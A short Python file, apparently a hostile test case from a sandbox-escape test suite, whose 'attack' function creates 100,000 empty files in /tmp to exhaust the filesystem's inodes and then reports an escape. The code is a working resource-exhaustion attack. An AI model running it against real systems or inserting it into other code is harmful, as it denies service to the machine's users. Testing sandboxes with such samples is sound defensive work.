"""Makes empty files until there is no inode left."""

import os

from hostile import escaped


def attack(directory, files):
    for number in range(100_000):
        os.close(os.open(f"/tmp/{number}", os.O_CREAT | os.O_WRONLY))
    escaped("100000 files")
